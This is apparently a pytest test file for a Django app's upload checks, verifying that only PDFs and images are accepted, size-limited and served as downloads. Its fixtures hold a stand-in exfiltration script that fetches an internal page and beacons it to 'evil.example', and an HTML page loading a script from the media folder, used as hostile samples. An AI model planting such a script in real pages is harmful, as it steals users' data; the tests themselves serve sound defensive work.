"""Uploaded manuals and leaflets: only PDF and images, checked by content, limited in size, served as downloads."""

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from catalog.models import Programme, Resource
from catalog.uploads import validate_upload
from tests import factories
from tests.admin_forms import form_data
from tests.otp import verified_login

pytestmark = pytest.mark.django_db

PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00\x90wS\xde"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
WEBP = b"RIFF\x1a\x00\x00\x00WEBPVP8 \x0e\x00\x00\x00" + b"\x00" * 14
HTML = b"<!doctype html><script src=/media/resources/x.js></script>"
SCRIPT = b"fetch('/praktijk/').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example', t))"


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


@pytest.mark.parametrize(
    ("name", "content"), [("handleiding.pdf", PDF), ("kaart.png", PNG), ("foto.jpeg", JPEG), ("beeld.webp", WEBP)]
)
def test_pdf_and_images_are_accepted(name, content):
    validate_upload(SimpleUploadedFile(name, content))


@pytest.mark.parametrize(
    ("name", "content"),
    [("pagina.html", HTML), ("script.js", SCRIPT), ("vermomd.pdf", HTML), ("leeg.pdf", b""), ("svg.svg", b"<svg/>")],
)
def test_other_content_is_refused_whatever_the_name_says(name, content):
    with pytest.raises(ValidationError) as refused:
        validate_upload(SimpleUploadedFile(name, content, content_type="application/pdf"))
    assert refused.value.code == "file_type_not_allowed"
    assert "Alleen PDF-bestanden" in refused.value.messages[0]


def test_an_image_named_as_a_page_is_refused():
    with pytest.raises(ValidationError) as refused:
        validate_upload(SimpleUploadedFile("plaatje.html", PNG))
    assert refused.value.code == "file_extension_mismatch"
    assert ".html" in refused.value.messages[0]


def test_a_file_over_the_size_limit_is_refused(settings):
    settings.RESOURCE_UPLOAD_MAX_MB = 1
    with pytest.raises(ValidationError) as refused:
        validate_upload(SimpleUploadedFile("groot.pdf", PDF + b"0" * (1024 * 1024)))
    assert refused.value.code == "file_too_large"
    assert "groter dan 1 MB" in refused.value.messages[0]


def test_curator_uploading_a_page_gets_a_dutch_error_at_the_field(client, redactie_group):
    curator = factories.user("redacteur", is_staff=True)
    curator.groups.add(redactie_group)
    programme = factories.programme("Psyfit")
    verified_login(client, curator)
    url = reverse("admin:catalog_resource_add")
    data = form_data(client.get(url))
    data.update({"programme": str(programme.pk), "kind": "leaflet", "title": "Folder", "url": ""})
    data["file"] = SimpleUploadedFile("folder.html", HTML, content_type="text/html")
    response = client.post(url, data)
    assert response.status_code == 200
    assert "Alleen PDF-bestanden en afbeeldingen" in response.text
    assert not Resource.objects.exists()


def _stored(programme, name, content):
    resource = Resource(programme=programme, kind=Resource.Kind.LEAFLET, title="Folder")
    resource.file.save(name, ContentFile(content), save=True)  # straight to storage, as a file from before the check
    return resource


def test_uploaded_file_is_served_as_a_download_with_its_real_type(client):
    resource = _stored(factories.programme("Psyfit"), "folder.pdf", PDF)
    page = client.get(reverse("catalog:programme_detail", args=["psyfit"]))
    link = reverse("catalog:resource_file", args=[resource.pk])
    assert f'href="{link}"' in page.text and "/media/" not in page.text
    response = client.get(link)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["Content-Type"] == "application/pdf"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    assert b"".join(response.streaming_content) == PDF


@pytest.mark.parametrize(("name", "content"), [("aanval.html", HTML), ("aanval.js", SCRIPT)])
def test_a_stored_page_or_script_is_never_served(client, name, content):
    resource = _stored(factories.programme("Psyfit"), name, content)
    assert client.get(reverse("catalog:resource_file", args=[resource.pk])).status_code == 404


def test_files_of_a_draft_programme_are_not_served(client):
    resource = _stored(factories.programme("Concept", status=Programme.Status.DRAFT), "folder.pdf", PDF)
    assert client.get(reverse("catalog:resource_file", args=[resource.pk])).status_code == 404
